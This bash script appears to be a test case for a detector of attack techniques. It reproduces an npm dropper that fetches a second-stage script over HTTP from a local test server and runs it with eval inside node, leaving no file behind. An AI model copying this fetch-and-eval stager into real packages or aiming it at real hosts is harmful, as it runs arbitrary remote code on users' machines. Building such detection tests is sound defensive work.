#!/bin/bash
# technique: T1059.007 Command and Scripting Interpreter: JavaScript; T1105 Ingress Tool Transfer; T1620 Reflective Code Loading
# reproduces: npm droppers that fetch their second stage and eval it in the installing node process (the 2018 event-stream/flatmap-stream payload decrypted and evaluated code in memory; later stagers fetch it), here a here-document fed to `node -`
# expect: interpreter-fetch-eval ^node(js)?$
# exec-borne: no
#
# The response is read in pieces in a 'data' handler and evaluated at
# its end: no file, no shell, nothing on the command line.
set -u

command -v node >/dev/null 2>&1 || { echo "node not installed" >&2; exit 77; }

node - "http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.js" <<'JS'
const http = require('http');
let body = '';
http.get(process.argv[2], res => {
  res.on('data', chunk => body += chunk);
  res.on('end', () => eval(body));
});
JS
